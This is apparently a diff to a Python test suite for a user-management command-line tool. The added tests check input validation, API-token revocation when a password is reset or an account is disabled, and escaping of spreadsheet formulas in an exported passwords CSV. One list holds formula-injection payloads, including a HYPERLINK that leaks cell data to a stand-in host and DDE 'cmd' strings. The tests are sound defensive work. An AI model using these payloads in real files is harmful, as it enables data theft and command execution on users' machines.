@@ -119,6 +119,19 @@ def test_add_a_collector_with_a_village_by_code_or_name(run, db):
         (("--role", "collector", "c_one"), "village: a village collector needs a village"),
         (("--role", "reporter", "--unit", "99999", "r_one"), "unit: there is no unit 99999"),
         (("--role", "officer", "x"), "must be 3 to 60"),
+        (
+            ("--role", "reporter", "--unit", str(2**63 + 1), "r_one"),
+            "unit: there is no unit 9223372036854775809",
+        ),
+        (
+            ("--role", "collector", "--village", "上新\x00村", "c_one"),
+            "village: there is no village 上新\ufffd村",
+        ),
+        (("--role", "collector", "--village", "9" * 40, "c_one"), "village: there is no village 999"),
+        (("--role", "officer", "--name", "张\x1b[31m三", "o_one"), "control characters"),
+        (("--role", "officer", "--name", "张" * 101, "o_one"), "longer than 100 characters"),
+        (("--role", "officer", "--phone", "=1+1", "o_one"), "not a phone number"),
+        (("--role", "officer", "a\x00b"), "must be 3 to 60"),
     ],
 )
 def test_add_refuses_with_a_message_and_creates_nothing(run, db, args, message):
@@ -181,6 +194,9 @@ def test_set_role(run, db, web):
     result = run("user", "set-role", "officer1", "reporter")
     assert result.exit_code == 1 and "a unit reporter needs a unit" in result.stderr
     assert run("user", "set-role", "nobody", "leader").exit_code == 1
+    for name in ("office\x00r1", "x" * 5000):  # no lookup fails in the database driver
+        result = run("user", "reset-password", name)
+        assert result.exit_code == 1 and "There is no user" in result.stderr, result.output
     assert audit_actions(db) == ["user.set_role"]
 
 
@@ -194,6 +210,36 @@ def test_reset_password_prints_a_new_one_time_password(run, db, web):
     assert r.status_code == 302 and r.location.endswith("/account/password")
     assert password not in _changes(db)
     assert audit_actions(db) == ["user.reset_password"]
+
+
+def test_reset_password_and_disable_revoke_the_accounts_api_tokens(run, db):
+    from geoapp.services.accounts.sessions import create_token, resolve_token
+
+    add_user(db, "officer1", "officer")
+    add_user(db, "officer2", "officer")
+
+    def new_token(username: str) -> str:
+        with db.write() as s:
+            return create_token(s, s.scalar(select(User).where(User.username == username)), "QGIS")[1]
+
+    def works(raw: str) -> bool:
+        with db.session() as s:
+            return resolve_token(s, raw) is not None
+
+    first, second, other = new_token("officer1"), new_token("officer1"), new_token("officer2")
+    result = run("user", "reset-password", "officer1")
+    assert result.exit_code == 0 and "API tokens are revoked" in result.output
+    assert not works(first) and not works(second) and works(other)
+    later = new_token("officer1")
+    assert run("user", "disable", "officer1").exit_code == 0
+    assert run("user", "enable", "officer1").exit_code == 0
+    assert not works(later)  # enabling the account again does not revive its tokens
+    with db.session() as s:
+        revoked = s.scalars(
+            select(AuditEvent.changes).where(AuditEvent.action == "token.revoke", AuditEvent.actor == "cli")
+        )
+        reasons = sorted(c.split('"reason":"')[1].split('"')[0] for c in revoked)
+    assert reasons == ["disabled", "password_reset", "password_reset"]
 
 
 def test_the_last_administrator_cannot_be_disabled(run, db):
@@ -238,6 +284,28 @@ def test_import_writes_the_passwords_to_a_private_file(run, db, tmp_path, web):
     result = run("user", "import", path, "--out", out)
     assert result.exit_code == 1 and "already exists" in result.stderr
     assert counts(db) == before
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_the_password_file_never_holds_a_formula(run, db, tmp_path):
+    """Names written into the passwords CSV (opened in Excel) start no formula."""
+    path = tmp_path / "users.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["姓名", "电话", "角色", "村"])
+        for i, name in enumerate(FORMULA_NAMES):
+            writer.writerow([name, f"1381234{i:04d}", "领导", ""])
+    out = tmp_path / "passwords.csv"
+    result = run("user", "import", path, "--out", out)
+    assert result.exit_code == 0, result.output
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    names = {c for c in cells if c.startswith("'")}
+    assert names == {"'" + name.strip() for name in FORMULA_NAMES}  # shown as typed, never run
 
 
 def test_a_refused_import_leaves_no_password_file(run, db, tmp_path):
